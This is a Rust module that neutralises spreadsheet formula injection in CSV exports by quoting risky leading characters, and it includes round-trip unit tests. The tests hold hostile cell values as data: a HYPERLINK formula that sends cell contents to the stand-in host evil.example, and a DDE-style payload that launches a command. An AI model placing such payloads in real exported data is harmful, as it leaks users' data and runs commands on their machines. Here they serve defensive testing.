//! CSV cells that a spreadsheet shows and never runs. Every CSV the project writes (report
//! tables, labels) goes through [`to_cell`]; the labels importer reads cells back through
//! [`from_cell`], so an export imports as it was.

use std::borrow::Cow;

/// What a spreadsheet takes for the start of a formula, and the two characters some strip
/// before looking (so `\t=…` is a formula too).
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `cell` as a CSV holds it: a cell a spreadsheet would evaluate as a formula (it starts with
/// `=`, `+`, `-`, `@`, a tab or a carriage return and is not a plain number) gets a leading `'`,
/// which makes it text. A cell that already starts with `'` gets one more, so [`from_cell`]
/// gives back exactly what was written. Numbers such as `-0.25` are left as numbers.
pub fn to_cell(cell: &str) -> Cow<'_, str> {
    let Some(first) = cell.chars().next() else { return Cow::Borrowed(cell) };
    let formula = FORMULA_STARTS.contains(&first) && cell.parse::<f64>().is_err();
    if formula || first == '\'' { Cow::Owned(format!("'{cell}")) } else { Cow::Borrowed(cell) }
}

/// The text of a cell written by [`to_cell`]: its leading `'`, when it has one, removed.
pub fn from_cell(cell: &str) -> &str {
    cell.strip_prefix('\'').unwrap_or(cell)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_become_text_and_numbers_stay_numbers() {
        for hostile in ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"] {
            let cell = to_cell(hostile);
            assert!(cell.starts_with('\''), "{hostile:?} → {cell:?}");
            assert_eq!(from_cell(&cell), hostile);
        }
        for plain in ["", "0.25", "-0.25", "+3", "-1e-5", "claude-code:permissive", "a = b", "fine - mostly"] {
            assert_eq!(to_cell(plain), plain);
            assert_eq!(from_cell(&to_cell(plain)), plain);
        }
        // A cell that starts with a quote keeps it through the round trip.
        assert_eq!(to_cell("'tis"), "''tis");
        assert_eq!(from_cell(&to_cell("'tis")), "'tis");
    }
}
